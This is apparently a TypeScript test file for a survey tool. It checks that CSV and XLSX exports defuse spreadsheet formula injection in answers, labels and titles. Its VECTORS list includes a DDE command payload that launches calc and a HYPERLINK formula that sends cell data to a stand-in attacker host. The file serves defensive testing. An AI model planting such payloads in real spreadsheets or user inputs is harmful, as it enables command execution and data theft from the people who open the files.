// Formula injection: text a respondent or an author typed must never become a formula in the
// spreadsheet a researcher opens. CSV cells that a spreadsheet would evaluate (first character
// = + - @ tab CR, or one of = + - @ after leading spaces or line breaks, which Excel and
// LibreOffice skip) get a leading `'`; XLSX writes text as text cells, which are never formulas.
// Both keep the text readable: the CSV cell is the answer with one `'` in front, the XLSX cell
// is the answer itself.
import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import t from 'tap';
import { safeText } from '../../server/export/csv.ts';
import { buildTestApp, dbLabel } from '../helpers/app.ts';
import { parseCsv } from '../helpers/csv.ts';
import { researcherHeaders, seedLink, seedSurvey, smallSurvey } from '../helpers/fixtures.ts';

/** Each starts a cell in a way some spreadsheet evaluates (the last ones after whitespace). */
const VECTORS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://angreifer.example/?d="&A1,"klick")',
  ' =1+1',
  '   =1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' \n =SUM(1,2)',
  ' +1+1',
  '\n@SUM(A1)',
  '\u00a0=1+1',
];
/** Harmless text that must come out unchanged. */
const PLAIN = ['Gut so', 'a=b', 'E-Mail: x@y.de', '1+1', ' Leerzeichen vorn'];

/** What a spreadsheet would evaluate: a trigger as the first character or after whitespace. */
const dangerous = (s: string) => /^[=+\-@\t\r]/.test(s) || /^\s*[=+\-@]/.test(s);


t.test('safeText neutralises every vector and leaves plain text alone', async (t) => {
  for (const v of VECTORS) t.equal(safeText(v), `'${v}`, JSON.stringify(v));
  for (const v of PLAIN) t.equal(safeText(v), v, JSON.stringify(v));
});

t.test(`CSV and XLSX exports hold no formula, from answers, choices, titles or link labels (${dbLabel})`, async (t) => {
  const { app, cleanup } = await buildTestApp();
  t.teardown(cleanup);
  // The author's texts carry vectors too: a choice label, a question title, the link label.
  const definition = structuredClone(smallSurvey) as typeof smallSurvey;
  const org = definition.pages[0].elements[0];
  org.choices = [
    { value: 'kammer', text: { de: '=1+1 Kammer', en: ' =1+1 Chamber' } },
    { value: 'verband', text: { de: '@Verband', en: '\n+Association' } },
  ];
  (definition.pages[0].elements[1] as { title: unknown }).title = { de: ' =WARUM()', en: '-Why' };
  const survey = await seedSurvey(app, 'formel', definition);
  const link = await seedLink(app, survey.surveyId, { label: '\n=Link+1' });
  const texts = [...VECTORS, ...PLAIN];
  for (const [i, why] of texts.entries()) {
    const res = await app.inject({
      method: 'POST',
      url: `/api/v1/links/${link.token}/responses`,
      payload: { id: randomUUID(), complete: true, data: { org: 'kammer', why, channels: ['web', 'other'], 'channels-Comment': texts[(i + 3) % texts.length], satisfaction: 3 } },
    });
    t.equal(res.statusCode, 201, res.body);
  }
  const headers = await researcherHeaders(app);

  const csvCells: string[] = [];
  for (const [locale, sep] of [['de', ';'], ['en', ',']] as const) {
    for (const labels of ['codes', 'text']) {
      const res = await app.inject({ url: `/api/v1/surveys/formel/export?format=csv&labels=${labels}&locale=${locale}`, headers });
      t.equal(res.statusCode, 200);
      const rows = parseCsv(res.body.replace(/^\uFEFF/, ''), sep);
      const head = rows[0];
      const col = (name: string) => rows.slice(1).map((r) => r[head.indexOf(name)]);
      t.same(col('why').sort(), texts.map((v) => safeText(v)).sort(), `${locale}/${labels}: every answer readable, with one ' where needed`);
      t.same(new Set(col('link_label')), new Set(["'\n=Link+1"]), `${locale}/${labels}: the link label neutralised`);
      if (labels === 'text') t.same(new Set(col('org')), new Set([locale === 'de' ? "'=1+1 Kammer" : "' =1+1 Chamber"]), `${locale}: the choice label neutralised`);
      for (const r of rows) csvCells.push(...r);
    }
    const codebook = await app.inject({ url: `/api/v1/surveys/formel/codebook?locale=${locale}`, headers });
    t.equal(codebook.statusCode, 200);
    const cb = parseCsv(codebook.body.replace(/^\uFEFF/, ''), sep);
    const title = locale === 'de' ? "' =WARUM()" : "'-Why";
    t.ok(cb.some((r) => r[0] === 'why' && r.includes(title)), `${locale}: the question title in the codebook neutralised`, { rows: cb.filter((r) => r[0] === 'why') });
    for (const r of cb) csvCells.push(...r);
  }
  const unsafe = csvCells.filter(dangerous);
  t.same(unsafe, [], 'no CSV cell a spreadsheet would evaluate');

  for (const labels of ['codes', 'text']) {
    const res = await app.inject({ url: `/api/v1/surveys/formel/export?format=xlsx&labels=${labels}&locale=de`, headers });
    t.equal(res.statusCode, 200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const formulas: string[] = [];
    const strings: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.SharedString || cell.formula) formulas.push(`${sheet.name}!${cell.address}`);
          if (typeof cell.value === 'string') strings.push(cell.value);
          else if (cell.value !== null && typeof cell.value === 'object') formulas.push(`${sheet.name}!${cell.address} (${JSON.stringify(cell.value)})`);
        }),
      ),
    );
    t.same(formulas, [], `${labels}: no cell in the XLSX is a formula or anything but plain values`);
    const data = book.worksheets[0];
    const head = (data.getRow(1).values as unknown[]).slice(1);
    const why = head.indexOf('why') + 1;
    const readable = data.getColumn(why).values.slice(2) as string[];
    // XML turns a carriage return into a line feed when read (exceljs does not write it as
    // _x000D_): the only change to the text.
    const lf = (v: string) => v.replace(/\r\n?/g, '\n');
    t.same(readable.map((v) => lf(v.replace(/^'/, ''))).sort(), texts.map(lf).sort(), `${labels}: every answer readable in the XLSX`);
    t.ok(strings.includes(' =WARUM()') || strings.includes("' =WARUM()"), `${labels}: the codebook sheet keeps the title readable`);
  }
});
